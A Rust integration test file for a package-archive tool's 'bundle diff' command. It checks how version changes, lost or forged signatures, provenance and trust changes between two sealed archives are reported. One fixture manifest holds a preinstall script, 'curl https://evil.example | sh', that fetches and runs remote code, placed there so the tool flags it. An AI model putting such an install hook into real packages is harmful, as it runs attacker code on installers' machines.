//! `bundle diff`: what changes from one archive to another, by the real binary.
#![cfg(feature = "network")]
// A test fails by panicking; and it looks at files and clocks that the program may not.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::disallowed_methods)]

#[path = "../disk/mod.rs"]
mod disk;
mod identity;
mod scripts;
#[path = "../sides/mod.rs"]
mod sides;
#[path = "../world/mod.rs"]
mod world;

use serde_json::{Value, json};
use sides::Sides;
use testkit::{
    sigstore::{Build, Sigstore},
    tarball::Tarball,
};
use world::{NOW, Package, Run, SEALED, TRUST, World, key, published};

macro_rules! snapshot {
    ($name:expr, $text:expr) => {
        insta::with_settings!({
            snapshot_path => "../../snapshots",
            prepend_module_to_snapshot => false,
            filters => [
                // Keys and signatures are made afresh, and with them the length of ECDSA's.
                (r#""bytes": \d+"#, r#""bytes": "SIZE""#),
                (r#""sha256": "[0-9a-f]{64}",\n(\s+"sealedAt")"#, "\"sha256\": \"SHA256\",\n$1"),
                (r"sha256    [0-9a-f]{64}", "sha256    SHA256"),
                (r"[\d.]+ KiB", "SIZE"),
            ],
        }, { insta::assert_snapshot!($name, $text) })
    };
}

#[test]
fn archives_in_the_wrong_order_are_told() {
    let world = World::new();
    let all = [Package::new("a", "1.0.0")];
    let two = Two::of(world, &all, &all);
    let mut parts = world::Parts::of(&two.world.path("old.sealift"), &key(1));
    parts.predicate.sealed_at = "2026-02-02T00:00:00Z".into();
    parts.seal(&two.world.path("old.sealift"), &[key(1)]);
    let shown = two.diff("").done().stdout;
    assert!(shown.contains("\nOLD was sealed after NEW: are the two swapped?"), "{shown}");
    let right = "bundle diff new.sealift old.sealift --key release.key.pub";
    let right = two.world.sealift(&format!("{right} {TRUST} --at {NOW}")).done();
    assert!(!right.stdout.contains("swapped"), "{right}");
}

/// Two archives, `old.sealift` and `new.sealift`, that are compared.
struct Two {
    world: World,
}

impl Two {
    fn of(world: World, old: &[Package], new: &[Package]) -> Self {
        for (name, packages) in [("old.sealift", old), ("new.sealift", new)] {
            // Lockfiles have one place for each name; a second version gets one below.
            let mut at_top = std::collections::BTreeSet::new();
            world.lock_entries(packages.iter().map(|package| {
                let parent = if at_top.insert(&package.name) { "" } else { "node_modules/app/" };
                package.locked_at(&format!("{parent}node_modules/{}", package.name))
            }));
            let registry = world.serve(packages);
            world.fetch("").done();
            drop(registry);
            std::fs::rename(world.path("app.sealift"), world.path(name)).unwrap();
        }
        Self { world }
    }

    fn diff(&self, more: &str) -> Run {
        let diff = "bundle diff old.sealift new.sealift --key release.key.pub";
        self.world.sealift(&format!("{diff} {TRUST} --at {NOW} {more}"))
    }

    fn json(&self) -> Value {
        self.diff("--format json").json()
    }
}

/// A version with all evidence.
fn package(world: &World, name: &str, version: &str, build: &Build) -> Package {
    Package::new(name, version)
        .signed(&world.sigstore)
        .published(&world.sigstore)
        .built(&world.sigstore, build)
}

fn build() -> Build {
    Build::github("acme/a")
}

fn manifest(name: &str, version: &str, more: Value) -> Vec<u8> {
    Tarball::with_manifest("test", name, version, &more).gzip()
}

fn with_tarball(name: &str, version: &str, tarball: Vec<u8>) -> Package {
    Package { tarball, ..Package::new(name, version) }
}

#[test]
fn the_same_archive_does_not_differ() {
    let world = World::new();
    let all = [package(&world, "a", "1.0.0", &build()), Package::new("b", "1.0.0")];
    let two = Two::of(world, &all, &all);
    let found = two.json();
    assert_eq!((&found["differs"], &found["trust"]["differs"]), (&json!(false), &json!(false)));
    assert_eq!((&found["changed"], &found["removed"]), (&json!([]), &json!([])));
    let shown = two.diff("-q").done();
    assert_eq!((shown.stdout.as_str(), shown.stderr.as_str()), ("no package differs\n", ""));
}

#[test]
fn packages_are_added_removed_and_updated() {
    let world = World::new();
    let new = |name, version| Package::new(name, version);
    let two = Two::of(
        world,
        &[new("gone", "1.0.0"), new("two", "1.0.0"), new("two", "2.0.0"), new("@s/up", "0.1.0")],
        &[new("more", "1.0.0"), new("two", "1.0.0"), new("two", "2.1.0"), new("@s/up", "0.1.1")],
    );
    let found = two.json();
    let changed: Vec<_> = found["changed"].as_array().unwrap().iter().collect();
    let changed: Vec<_> =
        changed.iter().map(|it| json!([it["purl"], it["change"], it["before"]])).collect();
    let expected = [
        json!(["pkg:npm/%40s/up@0.1.1", "updated", "pkg:npm/%40s/up@0.1.0"]),
        json!(["pkg:npm/more@1.0.0", "added", null]),
        json!(["pkg:npm/two@2.1.0", "updated", "pkg:npm/two@2.0.0"]),
    ];
    assert_eq!(changed, expected);
    assert_eq!(found["removed"], json!(["pkg:npm/gone@1.0.0"]));
    assert_eq!(two.diff("-q").done().stdout, "1 added, 1 removed, 2 updated\n");
}

#[test]
fn other_bytes_of_the_same_version_are_told() {
    let world = World::new();
    let other = with_tarball("a", "1.0.0", manifest("a", "1.0.0", json!({"x": 1})));
    let two = Two::of(world, &[Package::new("a", "1.0.0")], &[other]);
    assert_eq!(two.json()["changed"][0]["change"], "replaced");
    let shown = two.diff("").done().stdout;
    assert!(shown.starts_with("the same versions; 1 with other bytes\n"), "{shown}");
}

#[test]
fn evidence_is_lost_and_gained_between_versions_and_for_the_same_bytes() {
    let world = World::new();
    let sigstore = &world.sigstore;
    let signed = Package::new("same", "1.0.0").signed(sigstore);
    let old = [package(&world, "a", "1.0.0", &build()), Package::new("b", "1.0.0"), signed.clone()];
    let new = [
        Package::new("a", "1.0.1").signed(sigstore).published(sigstore),
        Package::new("b", "1.1.0").signed(sigstore),
        Package { signatures: vec![], ..signed },
    ];
    let two = Two::of(world, &old, &new);
    let found = two.json();
    let claims: Vec<_> = (0..3).map(|at| found["changed"][at]["claims"].clone()).collect();
    let change = |claim, from, to| json!([{"claim": claim, "from": from, "to": to}]);
    let expected = [
        change("provenance", "verified", "absent"),
        change("registry-signature", "absent", "verified"),
        change("registry-signature", "verified", "absent"),
    ];
    assert_eq!(claims, expected);
    assert_eq!(found["changed"][2]["change"], "kept");
    let summary = &found["summary"];
    assert_eq!((&summary["evidenceLost"], &summary["evidenceGained"]), (&json!(2), &json!(1)));
    assert_eq!(two.diff("-q").done().stdout, "2 updated; 2 lost evidence, 1 gained evidence\n");
}

#[test]
fn evidence_that_does_not_verify_ends_with_exit_1() {
    let world = World::new();
    let signed = |version| Package::new("a", version).signed(&world.sigstore);
    let (unsigned, new, other) = (Package::new("a", "1.0.0"), signed("1.0.1"), signed("1.0.2"));
    let text = |package: &Package| package.signatures[0]["sig"].as_str().unwrap().to_owned();
    let (own, forged) = (text(&new), text(&other));
    let two = Two::of(world, &[unsigned], &[new]);
    let archive = two.world.path("new.sealift");
    // A signature over another version.
    let mut parts = world::Parts::of(&archive, &key(1));
    let record = parts.entries.get_mut("npm/a/1.0.1/registry.json").unwrap();
    *record = String::from_utf8(record.clone()).unwrap().replace(&own, &forged).into_bytes();
    parts.seal(&archive, &[key(1)]);
    let run = two.diff("--format json").refused();
    let found = run.json();
    let refused = &found["new"]["refused"][0];
    assert_eq!(refused["claim"], "registry-signature");
    assert_eq!(refused["reason"], "invalid-signature");
    assert_eq!((&found["old"]["refused"], &found["summary"]["refused"]), (&json!([]), &json!(1)));
    let change = json!([{"claim": "registry-signature", "from": "absent", "to": "refused"}]);
    assert_eq!(found["changed"][0]["claims"], change);
    let shown = two.diff("").refused();
    assert!(shown.stdout.starts_with("1 updated; 1 refused\n"), "{shown}");
}

#[test]
fn archives_that_are_refused_or_cannot_be_read_are_not_compared() {
    let world = World::new();
    let all = [Package::new("a", "1.0.0")];
    let two = Two::of(world, &all, &all);
    let diff = |options: &str| {
        let run = two.world.sealift(&format!("bundle diff {options} {TRUST} --at {NOW}"));
        assert_eq!(run.stdout, "");
        run
    };
    diff("old.sealift new.sealift --key second.key.pub").refused().says("old.sealift");
    diff("old.sealift none.sealift --key release.key.pub").failed().says("none.sealift");
    diff("old.sealift new.sealift").failed().says("no public key says whose seal counts");
    let mut bytes = two.world.read("new.sealift");
    let at = bytes.windows(2).position(|pair| pair == [0x1f, 0x8b]).unwrap();
    bytes[at + 20] ^= 1;
    two.world.write("new.sealift", bytes);
    diff("old.sealift new.sealift --key release.key.pub").refused().says("new.sealift");
}

#[test]
fn one_of_several_keys_must_have_sealed_each() {
    let world = World::new();
    let all = [Package::new("a", "1.0.0")];
    let two = Two::of(world, &all, &all);
    let parts = world::Parts::of(&two.world.path("new.sealift"), &key(1));
    parts.seal(&two.world.path("new.sealift"), &[key(2)]);
    two.diff("").refused();
    two.diff("--key second.key.pub").done();
}

#[test]
fn trust_that_changed_between_two_archives_is_told() {
    let mut sides = Sides::new().pinned();
    sides.sealed(SEALED, "old.sealift").done();
    let diff = |sides: &Sides, new: &str, more: &str| {
        let diff = format!("bundle diff old.sealift {new} --key release.key.pub --instance acme");
        sides.on("gap", &format!("{diff} --at {NOW} {more}")).done()
    };
    assert_eq!(diff(&sides, "old.sealift", "-q").stdout, "no package differs\n");

    let mut keys: Value = serde_json::from_slice(&sides.world.read("keys.json")).unwrap();
    let more: Value = serde_json::from_str(&Sigstore::new(published()).npm_keys_json()).unwrap();
    keys["keys"].as_array_mut().unwrap().extend(more["keys"].as_array().unwrap().clone());
    sides.publish(keys.to_string().into_bytes());
    let at = "--instance acme --at 2026-02-02T00:00:00Z";
    sides.on("connected", &format!("trust refresh --mirror URL {at}")).done();
    let fetch = "bundle fetch package-lock.json -o new.sealift --key release.key --no-refresh";
    let package = Package::new("left-pad", "1.3.0").signed(&sides.world.sigstore);
    let _registry = sides.world.serve([&package]);
    sides.on("connected", &format!("{fetch} {at}")).done();

    let found = diff(&sides, "new.sealift", "--format json").json();
    assert_eq!((&found["differs"], &found["trust"]["differs"]), (&json!(false), &json!(true)));
    let added: Vec<_> = found["trust"]["added"].as_array().unwrap().iter().collect();
    assert_eq!(added.len(), 2);
    assert!(added.iter().all(|it| it["kind"] == "npm key"), "{found:#}");
    let timestamp = |side: &str| found[side]["trust"][0]["timestamp"].as_u64().unwrap();
    assert!(timestamp("new") > timestamp("old"), "{found:#}");
    let shown = diff(&sides, "new.sealift", "").stdout;
    assert!(shown.starts_with("no package differs; other trust\n"), "{shown}");
    assert!(
        shown.contains("\nother trust: what the two archives are judged by\n  added npm key "),
        "{shown}"
    );
}

#[test]
fn both_renderings_of_many_changes() {
    let world = World::new();
    let sigstore = &world.sigstore;
    let all = |name: &str, version: &str| package(&world, name, version, &build());
    let evil = Build {
        repository_id: "1".into(),
        owner_id: "2".into(),
        workflow: ".github/workflows/ci.yml".into(),
        runner: "self-hosted".into(),
        ..Build::github("evil/a")
    };
    let runs = |version| {
        let scripts = json!({"scripts": {"postinstall": "node setup.js"}});
        let tarball = Tarball::with_manifest("test", "runs", version, &scripts);
        tarball.bundle("inner", "9.0.0", &json!({"scripts": {"install": "make"}})).gzip()
    };
    let more = json!({"scripts": {"preinstall": "curl https://evil.example | sh"}});
    let old = [
        all("fine", "2.0.0"),
        all("lost", "1.0.0"),
        all("stolen", "1.2.0"),
        Package::new("gained", "1.0.0"),
        Package::new("gone", "3.0.0"),
        Package::new("runs", "0.4.0"),
        Package::new("same", "1.0.0"),
        Package::new("two", "1.0.0"),
    ];
    let new = [
        all("fine", "2.0.1"),
        Package::new("lost", "1.0.1").signed(sigstore).published(sigstore),
        package(&world, "stolen", "1.2.1", &evil),
        Package::new("gained", "1.1.0").signed(sigstore),
        package(&world, "built", "1.0.0", &Build::github("acme/built")),
        with_tarball("more", "1.0.0", manifest("more", "1.0.0", more)),
        with_tarball("runs", "0.4.1", runs("0.4.1")),
        with_tarball("same", "1.0.0", manifest("same", "1.0.0", json!({"main": "x.js"}))),
        Package::new("two", "1.0.0"),
        Package::new("two", "2.0.0"),
    ];
    let two = Two::of(world, &old, &new);
    let human = two.diff("").done();
    assert_eq!(human.stderr, "");
    for line in human.stdout.lines().skip(1) {
        assert!(line.chars().count() <= 80, "over 80 columns: {line}");
    }
    snapshot!("diff", human);
    snapshot!("diff-json", two.diff("--format json").done());
}
